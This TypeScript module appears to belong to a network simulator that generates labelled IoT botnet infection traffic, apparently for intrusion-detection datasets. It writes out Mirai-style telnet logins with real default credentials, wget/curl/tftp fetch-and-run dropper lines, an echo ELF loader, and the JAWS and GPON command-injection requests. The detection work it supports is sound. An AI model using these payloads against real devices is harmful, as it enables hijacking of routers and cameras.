/**
 * The command that tells a device to fetch and run a program, as IoT botnets send it: a loader
 * logs into the device's telnet (IAC negotiation, `login:`, a default password, `enable`,
 * `system`, `shell`, `sh`, a busybox probe) and types its dropper; or a router/camera exploit
 * carries it to the device's web server. Used by the malware_download injector only when its
 * `command` tune key is set (malware-download.ts), so drawn homes never contain it.
 *
 * 1 telnet wget (Mirai), 2 echo loader (the ELF as hex escapes), 3 JAWS `GET /shell?…wget…`,
 * 4 GPON `POST /GponForm/diag_Form` with wget in `dest_host`, 5 `curl | sh` over telnet on 2323,
 * 6 `tftp -g` over telnet.
 * @module
 */
import { ipText } from '../exchanges.js';
import type { Conn } from '../frames.js';
import type { LabelEvent } from '../labels.js';
import { httpRequest, httpResponse } from '../protocols/http-message.js';
import { Script, msg, type Msg } from '../script.js';
import type { Device, Sim } from '../sim.js';
import { randomPublicIp } from './internet.js';

const MS = 1e3;

/** Commands after which the HTTP download of the URL follows (the others fetch otherwise). */
export const HAS_DOWNLOAD: ReadonlySet<number> = new Set([1, 3, 4, 5]);

const NAMES = ['telnet-wget', 'echo-loader', 'http-query', 'http-body', 'curl-sh', 'tftp'];
const PORTS = [23, 23, 80, 8080, 2323, 23];
const CREDENTIALS = [
  ['root', 'xc3511'],
  ['root', 'vizxv'],
  ['admin', 'admin'],
  ['root', '888888'],
  ['support', 'support'],
];
/** What a busybox shell answers an unknown applet (the loader's probe). */
const PROBES = ['ECCHI', 'MIRAI', 'OWARI', 'SORA', 'HOHO'];
const IAC_DO = Buffer.from([255, 253, 24, 255, 253, 32, 255, 253, 35, 255, 253, 39]);
const IAC_WONT = Buffer.from([255, 252, 24, 255, 252, 32, 255, 252, 35, 255, 252, 39]);

export interface CommandPlan {
  /** 1…6 (see the module header). */
  command: number;
  fromLan: boolean;
  /** The URL the download fetches (http://ip[:port]/path). */
  url: string;
  /** The loader's address as text (tftp). */
  ip: string;
  label: LabelEvent;
}

/** A telnet login and shell set-up, then `lines` typed one a message; the device answers each. */
function telnet(sim: Sim, lines: string[]): Msg[] {
  const r = sim.rng;
  const [user, pass] = r.pick(CREDENTIALS);
  const probe = r.pick(PROBES);
  const think = (): number => r.range(30, 300) * MS;
  const out: Msg[] = [
    msg(false, Buffer.concat([IAC_DO, Buffer.from('\r\nlogin: ', 'latin1')]), think()),
    msg(true, IAC_WONT, think()),
    msg(true, `${user}\r\n`, think()),
    msg(false, '\r\nPassword: ', think()),
    msg(true, `${pass}\r\n`, think()),
    msg(false, '\r\n\r\nBusyBox v1.19.4 built-in shell (ash)\r\n# ', think()),
  ];
  for (const l of ['enable', 'system', 'shell', 'sh', `/bin/busybox ${probe}`, ...lines]) {
    out.push(msg(true, `${l}\r\n`, think()));
    out.push(
      msg(false, l.startsWith('/bin/busybox') ? `${probe}: applet not found\r\n# ` : '# ', think()),
    );
  }
  return out;
}

/** Lines of the echo loader: the first bytes of an ELF as `\xNN` escapes, 16 a line. */
function echoLines(sim: Sim): string[] {
  const r = sim.rng;
  const head = [0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x28, 0];
  while (head.length < 16 * 6) head.push(r.int(0, 255));
  const lines: string[] = [];
  for (let i = 0; i < head.length; i += 16) {
    const hex = head.slice(i, i + 16).map((b) => `\\x${b.toString(16).padStart(2, '0')}`);
    lines.push(`/bin/busybox echo -ne '${hex.join('')}' ${i === 0 ? '>' : '>>'} .d`);
  }
  lines.push('/bin/busybox chmod 777 .d; ./.d; rm -rf .d');
  return lines;
}

function messages(sim: Sim, d: Device, plan: CommandPlan, port: number): Msg[] {
  const r = sim.rng;
  const u = plan.url;
  const file = u.slice(u.lastIndexOf('/') + 1);
  const host = `${ipText(d.ip4)}:${port}`;
  const answer = (): Msg =>
    msg(false, httpResponse(200, 'OK', [['Content-Type', 'text/html']], 0), r.range(5, 80) * MS);
  switch (plan.command) {
    case 2:
      return telnet(sim, echoLines(sim));
    case 3: {
      const q = `cd+/tmp;rm+-rf+*;wget+${u.replace(/:/g, '%3A').replace(/\//g, '%2F')};sh+/tmp/${file}`;
      const req = httpRequest('GET', `/shell?${q}`, [
        ['User-Agent', 'Hello, world'],
        ['Host', host],
        ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
        ['Connection', 'keep-alive'],
      ]);
      return [msg(true, req, 0), answer()];
    }
    case 4: {
      const body = `XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=\`\`;wget+${u}+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0`;
      const req = httpRequest(
        'POST',
        '/GponForm/diag_Form?images/',
        [
          ['Host', host],
          ['User-Agent', 'Hello, World'],
          ['Content-Type', 'application/x-www-form-urlencoded'],
        ],
        body,
      );
      return [msg(true, req, 0), answer()];
    }
    case 5:
      return telnet(sim, [`cd /tmp || cd /var/run; curl -s ${u} | sh`]);
    case 6:
      return telnet(sim, [
        `cd /tmp; /bin/busybox tftp -g -r ${file} -l .t ${plan.ip}`,
        '/bin/busybox chmod 777 .t; ./.t tftp.loader',
      ]);
    default:
      return telnet(sim, [
        `cd /tmp || cd /var/run || cd /mnt; /bin/busybox wget ${u} -O .w; chmod 777 .w; ./.w telnet.loader`,
      ]);
  }
}

/** Schedules the command session to device `d` now; returns its name for the label. */
export function dropperCommand(sim: Sim, d: Device, plan: CommandPlan): string {
  const r = sim.rng;
  const port = PORTS[plan.command - 1] ?? 23;
  let conn: Conn;
  const others = sim.devices.filter((x) => x !== d);
  if (plan.fromLan && others.length > 0) conn = sim.connLan(r.pick(others), d, port);
  else conn = sim.connFromInternet(d, randomPublicIp(r), port);
  const s = new Script(sim, sim.now, { conn, close: 'finA' });
  s.push(...messages(sim, d, plan, port));
  s.label = plan.label;
  sim.schedule(s);
  return NAMES[plan.command - 1] ?? NAMES[0];
}
